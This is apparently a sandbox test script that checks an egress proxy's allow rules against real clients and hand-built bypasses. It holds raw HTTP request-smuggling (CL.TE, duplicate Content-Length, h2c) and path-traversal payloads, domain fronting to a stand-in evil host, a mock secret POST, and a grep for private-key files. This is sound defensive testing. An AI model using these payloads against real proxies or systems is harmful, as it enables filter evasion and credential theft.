"""Runs inside a step: real clients and hand-made attacks against action-level rules.

Writes results.json: one entry per attempt (HTTP status, exit code, what came back).
Hosts: pkg.sbx.test (inspected on 8443, action rule on 8080), plain.sbx.test:8080
(host-level), evil.sbx.test (same address, never allowed).
"""

import json
import os
import re
import socket
import ssl
import subprocess
import urllib.error
import urllib.request
from pathlib import Path

PKG = "pkg.sbx.test"
TLS_URL = f"https://{PKG}:8443"
results: dict[str, object] = {}


def run(name: str, argv: list[str]) -> None:
    p = subprocess.run(argv, capture_output=True, text=True, timeout=60)
    results[name] = {"exit": p.returncode, "out": p.stdout[-400:], "err": p.stderr[-400:]}


def status_lines(data: bytes) -> list[int]:
    return [int(m) for m in re.findall(rb"HTTP/1\.[01] ([0-9]{3}) ", data)]


def exchange(name: str, payload: bytes, host: str = PKG, port: int = 8080,
             tls: bool = False, sni: str = PKG, alpn: list[str] | None = None,
             address: tuple[str, int] | None = None) -> None:
    """Send raw bytes on one connection, read until it closes; record the statuses."""
    try:
        sock = socket.create_connection(address or (host, port), timeout=10)
        if tls:
            ctx = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
            if alpn:
                ctx.set_alpn_protocols(alpn)
            sock = ctx.wrap_socket(sock, server_hostname=sni)
        sock.sendall(payload)
        data = b""
        while True:
            chunk = sock.recv(65536)
            if not chunk:
                break
            data += chunk
        sock.close()
        results[name] = {"statuses": status_lines(data), "body": data[-300:].decode("latin-1")}
    except OSError as exc:
        results[name] = {"error": f"{type(exc).__name__}: {exc}"}


def get(path: str, host: str = PKG, close: bool = False) -> bytes:
    tail = "Connection: close\r\n" if close else ""
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\n{tail}\r\n".encode()


# -- real clients through inspection
run("curl_get", ["curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}",
                 f"{TLS_URL}/simple/sbxdemo/"])
run("curl_post", ["curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "-d", "token=s3cret",
                  f"{TLS_URL}/simple/sbxdemo/"])
# The same through the explicit proxy (CONNECT): inspected all the same.
run("proxy_get", ["curl", "-sS", "--proxy", os.environ["SBX_PROXY"], "-o", "/dev/null",
                  "-w", "%{http_code}", f"{TLS_URL}/simple/sbxdemo/"])
run("proxy_post", ["curl", "-sS", "--proxy", os.environ["SBX_PROXY"], "-o", "/dev/null",
                   "-w", "%{http_code}", "-d", "token=s3cret", f"{TLS_URL}/simple/sbxdemo/"])
run("curl_own_store", ["curl", "-sS", "--cacert", "/etc/ssl/certs/ca-certificates.crt",
                       "-o", "/dev/null", f"{TLS_URL}/simple/"])
for name, path in (("urllib_get", "/simple/sbxdemo/"), ("urllib_outside", "/upload")):
    try:
        with urllib.request.urlopen(TLS_URL + path, timeout=20) as resp:
            results[name] = {"status": resp.status}
    except urllib.error.HTTPError as exc:
        results[name] = {"status": exc.code}
    except OSError as exc:
        results[name] = {"error": str(exc)}
run("pip_download", ["python3", "-m", "pip", "download", "--no-deps", "--disable-pip-version-check",
                     "-d", "/tmp/dl", "--index-url", f"{TLS_URL}/simple/", "sbxdemo"])
results["pip_files"] = sorted(os.listdir("/tmp/dl")) if os.path.isdir("/tmp/dl") else []
run("git_clone", ["git", "clone", "-q", f"{TLS_URL}/repo.git", "/tmp/repo"])
results["git_readme"] = (Path("/tmp/repo/README").read_text()
                         if os.path.exists("/tmp/repo/README") else None)
run("git_push", ["git", "-C", "/tmp/repo", "push", "-q", "origin", "HEAD:refs/heads/x"])

# -- path tricks, fronting, h2 over inspected TLS
for name, path in (("dotdot", "/simple/../upload"), ("pct_dotdot", "/simple/%2e%2e/upload"),
                   ("pct_slash", "/simple%2f..%2fupload"), ("double_slash", "//simple/x"),
                   ("params", "/simple;x/../upload")):
    exchange(f"trick_{name}", get(path, close=True), port=8443, tls=True)
exchange("fronting", get("/simple/", host="evil.sbx.test", close=True), port=8443, tls=True)
exchange("h2_over_tls", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", port=8443, tls=True, alpn=["h2"])

# -- the three bypasses on a host-level rule (plain HTTP), and the same on the action rule
second = get("/second", host="evil.sbx.test", close=True)
try:
    sock = socket.create_connection(("plain.sbx.test", 8080), timeout=10)
    sock.sendall(get("/first", host="plain.sbx.test"))
    first = sock.recv(65536)
    sock.sendall(second)
    rest = b""
    while chunk := sock.recv(65536):
        rest += chunk
    results["keepalive"] = {"statuses": status_lines(first) + status_lines(rest)}
except OSError as exc:
    results["keepalive"] = {"error": str(exc)}
exchange("pipelined", get("/first", host="plain.sbx.test") + second, host="plain.sbx.test")
proxy_host, proxy_port = os.environ["SBX_PROXY"].rsplit("/", 1)[-1].split(":")
exchange("proxy_absolute",
         b"GET http://plain.sbx.test:8080/first HTTP/1.1\r\nHost: plain.sbx.test:8080\r\n\r\n"
         b"GET http://evil.sbx.test:8080/second HTTP/1.1\r\nHost: evil.sbx.test:8080\r\n"
         b"Connection: close\r\n\r\n", address=(proxy_host, int(proxy_port)))
exchange("plain_action_post", b"POST /simple/ HTTP/1.1\r\nHost: pkg.sbx.test:8080\r\n"
         b"Content-Length: 6\r\n\r\ns3cret")

# -- smuggling and h2c to an allowed host
exchange("cl_te", b"POST /smuggle-clte HTTP/1.1\r\nHost: plain.sbx.test\r\nContent-Length: 4\r\n"
         b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: evil.sbx.test"
         b"\r\n\r\n", host="plain.sbx.test")
exchange("dup_cl", b"POST /smuggle-dupcl HTTP/1.1\r\nHost: plain.sbx.test\r\nContent-Length: 0\r\n"
         b"Content-Length: 0\r\n\r\n", host="plain.sbx.test")
exchange("h2c_prior", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", host="plain.sbx.test")
exchange("h2c_upgrade", b"GET /h2c HTTP/1.1\r\nHost: plain.sbx.test\r\nUpgrade: h2c\r\n"
         b"Connection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n",
         host="plain.sbx.test")

# -- what the step can see of the CA
bundle = os.environ.get("SSL_CERT_FILE", "")
text = Path(bundle).read_text() if bundle and os.path.exists(bundle) else ""
results["ca"] = {"bundle": bundle, "run_ca_in_bundle": "BEGIN CERTIFICATE" in text,
                 "private_key_in_bundle": "PRIVATE KEY" in text,
                 "env": {k: os.environ.get(k) for k in (
                     "SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "PIP_CERT",
                     "NODE_EXTRA_CA_CERTS", "GIT_SSL_CAINFO", "CARGO_HTTP_CAINFO")}}
found = subprocess.run(["grep", "-rl", "--exclude=actions_client.py",
                        "BEGIN EC PRIVATE KEY\\|BEGIN PRIVATE KEY", "/etc", "/tmp", "/workspace",
                        "/root", "/home"], capture_output=True, text=True)
results["ca"]["key_files"] = found.stdout.split()

with open("results.json", "w") as fh:
    json.dump(results, fh, indent=1)
